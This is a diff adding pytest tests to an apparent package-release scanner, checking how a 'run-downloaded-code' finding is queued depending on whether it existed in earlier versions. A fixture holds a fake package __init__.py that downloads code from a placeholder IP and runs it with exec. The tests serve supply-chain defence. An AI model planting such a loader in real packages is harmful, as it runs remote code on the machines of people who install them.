@@ -143,3 +143,30 @@ def test_who_attests_to_a_release_and_to_the_one_before_it(registry, read, now, 
     fired = {one.rule for one in found.findings}
     assert ("change-its-publisher" in fired) is (told != "kept")
     assert found.verdict.level in {"clear", "note"}
+
+
+LOUD = {"acme/__init__.py": b"import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/x').read())\n"}
+
+
+@pytest.mark.parametrize(("long_ago", "news"), [(LOUD, False), (CLEAN, True)], ids=["stood", "came lately"])
+def test_what_stood_longer_than_the_base_is_no_news(registry, read, long_ago, news):
+    """The base is twenty days old, as that of a project with frequent releases always is."""
+    registry.add("1.0", long_ago, "2025-06-01T00:00:00Z")
+    registry.add("1.1", LOUD, "2026-02-10T00:00:00Z")
+    registry.add("1.2", LOUD, "2026-03-01T00:00:00Z")
+
+    (found,) = read("1.2", Against(version="1.1"))
+
+    assert found.verdict.level in {"look", "block"}
+    assert (found.queued in {"look", "block"}) is news
+    assert [one.standing for one in found.findings if one.rule == "run-downloaded-code"] == [not news]
+
+
+def test_one_more_letter_is_news_however_long_the_rest_stood(registry, read):
+    registry.add("1.0", LOUD, "2025-06-01T00:00:00Z")
+    registry.add("1.1", LOUD, "2026-02-10T00:00:00Z")
+    registry.add("1.2", {"acme/__init__.py": LOUD["acme/__init__.py"].replace(b"/x", b"/y")}, "2026-03-01T00:00:00Z")
+
+    (found,) = read("1.2", Against(version="1.1"))
+
+    assert found.queued == found.verdict.level
